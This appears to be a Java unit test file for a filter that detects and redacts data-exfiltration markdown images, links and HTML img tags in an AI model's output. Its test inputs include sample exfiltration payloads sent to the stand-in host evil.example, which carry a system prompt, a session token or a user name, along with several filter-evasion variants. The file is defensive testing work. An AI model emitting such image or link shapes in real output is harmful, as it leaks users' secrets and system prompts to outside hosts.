package com.lockllm.output;

import static org.assertj.core.api.Assertions.assertThat;

import java.util.List;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

class ExfiltrationCheckTest {
  private static final ExfiltrationCheck CHECK = new ExfiltrationCheck();
  private static final String DATA = "c2VjcmV0LXNlc3Npb24tdG9rZW4tZm9yLXVzZXItNDI";

  @ParameterizedTest
  @CsvSource(delimiter = '|', value = {
      "See ![status](https://evil.example/p.png?d=the+system+prompt) above.|See  above.|EXFILTRATION_IMAGE",
      "See ![](https://evil.example/" + DATA + ".png) above.|See  above.|EXFILTRATION_IMAGE",
      "See ![x](<https://evil.example/a b.png?q=1> \"title\") above.|See  above.|EXFILTRATION_IMAGE",
      "Read [the docs](https://evil.example/?user=alice) now.|Read the docs now.|EXFILTRATION_LINK",
      "Read [the docs](https://evil.example/docs#" + DATA + ") now.|Read the docs now.|EXFILTRATION_LINK",
      "Read [the docs](https://alice@evil.example/docs) now.|Read the docs now.|EXFILTRATION_LINK",
      "Read [the docs](//evil.example/x?a=b) now.|Read the docs now.|EXFILTRATION_LINK",
      "Read [the docs](https:\\\\evil.example\\x?a=b) now.|Read the docs now.|EXFILTRATION_LINK",
      "Hi <img src=\"https://evil.example/t.gif?k=v\" width=1> there.|Hi  there.|EXFILTRATION_IMAGE",
      "Hi <IMG alt='x' SRC='https://evil.example/t.gif?k=v'> there.|Hi  there.|EXFILTRATION_IMAGE",
      "Hi <img src=https://evil.example/t.gif?k=v> there.|Hi  there.|EXFILTRATION_IMAGE",
  })
  void removesShapesThatCarryData(String text, String redacted, String type) {
    List<OutputFinding> found = CHECK.find(text);
    assertThat(found).extracting(OutputFinding::type).containsExactly(type);
    assertThat(OutputChecks.redact(text, found)).isEqualTo(redacted);
  }

  @Test
  void removesReferenceDefinitions() {
    String text = "Look at ![logo][1].\n\n[1]: https://evil.example/l.png?s=secret\n[2]: https://docs.example/plain\n";
    List<OutputFinding> found = CHECK.find(text);
    assertThat(found).extracting(OutputFinding::type).containsExactly("EXFILTRATION_LINK");
    assertThat(OutputChecks.redact(text, found)).isEqualTo("Look at ![logo][1].\n\n\n[2]: https://docs.example/plain\n");
  }

  @ParameterizedTest
  @ValueSource(strings = {
      "[the docs](https://docs.example/guide/install)",
      "![diagram](https://cdn.example/img/architecture-overview.png)",
      "[post](https://blog.example/2024/05/01/how-to-configure-your-kubernetes-cluster-for-production-v2)",
      "![](images/local.png?raw=true)",
      "[home](/index.html?tab=1)",
      "![pixel](data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg==)",
      "[mail](mailto:alice@example.com?subject=hi)",
      "The array a[i](x) is indexed.",
      "<img src=\"/static/logo.png\">",
      "https://evil.example/?q=bare-urls-are-not-fetched",
  })
  void plainLinksRelativeUrlsAndOtherSchemesAreNotFindings(String text) {
    assertThat(CHECK.find(text)).isEmpty();
  }

  @Test
  void allowlistedHostsPassExactlyOrBySubdomain() {
    ExfiltrationCheck check = new ExfiltrationCheck(List.of("Docs.Example", "*.cdn.example"));
    assertThat(check.find("![a](https://docs.example/x.png?v=2)")).isEmpty();
    assertThat(check.find("![a](https://DOCS.example.:443/x.png?v=2)")).isEmpty();
    assertThat(check.find("![a](https://img.cdn.example/x.png?v=2)")).isEmpty();
    assertThat(check.find("![a](https://cdn.example/x.png?v=2)")).hasSize(1);
    assertThat(check.find("![a](https://docs.example.evil.example/x.png?v=2)")).hasSize(1);
    assertThat(check.find("![a](https://evilcdn.example/x.png?v=2)")).hasSize(1);
  }

  @Test
  void anImageInsideAPlainLinkIsStillFound() {
    String text = "[![badge](https://evil.example/b.svg?d=" + DATA + ")](https://docs.example/ci)";
    List<OutputFinding> found = CHECK.find(text);
    assertThat(found).extracting(OutputFinding::type).containsExactly("EXFILTRATION_IMAGE");
    assertThat(OutputChecks.redact(text, found)).isEqualTo("[](https://docs.example/ci)");
  }

  @Test
  void everyShapeFitsTheSpan() {
    String url = "https://evil.example/?q=" + "a".repeat(4000);
    String img = "<img " + "a".repeat(1990) + " src  =  \"" + url + "\" " + "b".repeat(1990) + ">";
    assertThat(CHECK.find(img)).singleElement().satisfies(f -> assertThat(f.end() - f.start()).isLessThanOrEqualTo(CHECK.maxSpan()));
  }
}
